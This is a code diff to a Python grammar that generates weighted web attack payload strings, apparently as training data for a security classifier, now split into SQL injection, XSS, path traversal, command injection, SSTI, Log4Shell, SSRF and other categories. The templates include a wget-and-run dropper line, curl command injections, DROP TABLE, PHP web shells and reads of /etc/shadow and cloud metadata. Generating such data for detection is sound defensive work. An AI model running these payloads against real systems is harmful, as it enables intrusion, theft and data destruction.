@@ -13,8 +13,33 @@ from securitai.train.corpora.kinds import FILE, VALUE, TextKind
 from securitai.train.corpora.normal.base import pick
 from securitai.train.corpora.normal.grammar import grammar
 
-_P = grammar(r"""
+QUOTED = grammar(r"""
 @pay
+  ×9 ‹pay_sqli›
+  ×5 ‹pay_xss›
+  ×4 ‹pay_path›
+  ×5 ‹pay_cmdi›
+  ×4 ‹pay_ssti›
+  ×1 ‹pay_log4shell›
+  ×1 ‹pay_shellshock›
+  ×1 ‹pay_ssrf›
+  ×1 ‹pay_ldapi›
+  ×2 ‹pay_nosqli›
+  ×1 ‹pay_code›
+  ×1 ‹pay_crlf›
+  ×1 ‹pay_proto›
+  ‹int› order by ‹int›
+  information_schema.‹=tables/columns›
+  javascript:‹=alert(1)/void(document.title='x')/fetch('∕∕‹host›')›
+  <‹=b/i/u/h1/marquee/details open ontoggle=alert(1)›>‹word›</b>
+  http://‹host›/‹slug›.txt?
+  ${jndi:‹=ldap:.../dns:‹host›/${lower:l}dap.../rmi:...›}
+  <!ENTITY ‹letter› ...>
+  rO0AB‹alnum›
+  O:8:"stdClass":‹digit›:{}
+  //‹host›/%2f..
+  <xsl:value-of select="system-property('xsl:vendor')"/>
+@pay_sqli
   ' OR ‹digit›=‹digit›‹=/ --/ -- -/#›
   ‹=1/‹int›/‹word›› ‹=AND/OR/and/or› ‹int›=‹int›
   ‹word›' ‹=and/or› '‹letter›'='‹letter›
@@ -22,46 +47,47 @@ _P = grammar(r"""
   ‹=1/‹int›'/')›; ‹=DROP TABLE/drop table/DELETE FROM/TRUNCATE› ‹snake›‹=;--/ --/›
   ‹=‹int›/'› ‹=AND SLEEP/or sleep/and pg_sleep/; WAITFOR DELAY '0:0:5'; SELECT pg_sleep›(‹digit›)
   extractvalue(1,concat(0x7e,version()))
-  ‹int› order by ‹int›
   ‹user›'--
   ') or ('‹letter›'='‹letter›
-  information_schema.‹=tables/columns›
+@pay_xss
   <script>‹=alert/prompt/confirm›(‹=1/‹int›/document.domain/document.cookie/'‹word›'›)</script>
   <img src=x onerror=‹=alert(1)/prompt()/alert(document.domain)/console.log(1)›>
   "><svg‹=/ /∕›onload=‹=alert(1)/confirm(1)/alert`1`›>
-  javascript:‹=alert(1)/void(document.title='x')/fetch('∕∕‹host›')›
-  <‹=b/i/u/h1/marquee/details open ontoggle=alert(1)›>‹word›</b>
   " ‹=onmouseover/onfocus/onclick/autofocus onfocus›="‹=alert(1)/x()›
   <iframe src=‹=∕∕‹host›/javascript:alert(1)›></iframe>
-  ‹up›‹=etc∕passwd/etc∕shadow/windows∕win.ini/boot.ini/proc∕self∕environ/var∕log∕auth.log/‹slug›.php/.env›
+@pay_path
+  ‹up›‹=etc∕passwd/etc∕shadow/windows∕win.ini/boot.ini/proc∕self∕environ/var∕log∕auth.log/.env›
   ..\..\..\‹=windows\win.ini/web.config/‹slug›.ini/inetpub\logs›
   file:///‹=etc∕passwd/c:∕windows∕win.ini/proc∕self∕cmdline›
   php://filter/convert.base64-encode/resource=‹slug›
-  http://‹host›/‹slug›.txt?
+@pay_cmdi
   ; ‹=id/ls -la/cat ∕etc∕passwd/whoami/sleep ‹digit›/uname -a/rm -rf ∕tmp∕‹slug››
   ‹=|/||/&&/&› ‹=id/whoami/ping -c ‹digit› ‹host›/type c:\windows\win.ini/curl ‹host›/nslookup ‹host›/cat ∕etc∕hosts›
   $(‹=id/whoami/curl ‹host›∕‹letter›/sleep ‹digit›/wget -qO- ‹host››)
   `‹=id/uname -a/nslookup ‹domain››`
   cd /tmp; wget http://‹ip›/‹=bins.sh/‹pseudo›.sh/mozi.m/arm7›; sh ‹pseudo›
+@pay_ssti
   {{‹int›*‹int›}}
   ${‹int›*‹int›}
   {{‹=config/self.__class__/''.__class__.__mro__/request.application›}}
   <%= ‹int› * ‹int› %>
-  ${jndi:‹=ldap:.../dns:‹host›/${lower:l}dap.../rmi:...›}
+@pay_log4shell
   %24%7Bjndi:ldap://‹host›/‹letter›%7D
+@pay_shellshock
   () { :;}; ‹=echo/∕bin∕ping -c1/∕bin∕bash -c› ‹word›
+@pay_ssrf
   http://‹=169.254.169.254∕latest∕meta-data∕/127.0.0.1:‹port›∕/localhost∕server-status/metadata.google.internal∕/[::1]:‹port›∕›
+@pay_ldapi
   *)(‹=uid/cn/objectClass›=*
+@pay_nosqli
   {"$‹=ne/gt/regex/where›":‹=null/""/"^a"/1›}
-  ‹slug›[$‹=ne/gt/regex/in›]=‹word›
+  ‹slug›[$‹=ne/gt/regex›]=‹word›
+@pay_code
   <?php ‹=system($_GET['c'])/phpinfo()/eval($_POST[‹letter›])/echo md5(1)›; ?>
-  <!ENTITY ‹letter› ...>
+@pay_crlf
   %0d%0aX-‹pascal›: ‹word›
+@pay_proto
   __proto__[‹camel›]=‹=1/true›
-  rO0AB‹alnum›
-  O:8:"stdClass":‹digit›:{}
-  //‹host›/%2f..
-  <xsl:value-of select="system-property('xsl:vendor')"/>
 @up
   ‹dots*1-8|/›/
 @dots
@@ -101,7 +127,8 @@ _P = grammar(r"""
   /?author=‹small›
   \x16\x03\x01\x02\x00\x01\x00
 """)
-_PAY, _PROBE = _P.make("pay"), _P.make("probe")
+"""Payloads that are quoted; ``attacks/commonplace`` sends them."""
+_PAY, _PROBE = QUOTED.make("pay"), QUOTED.make("probe")
 
 
 def _encoded(rng: Random) -> str:
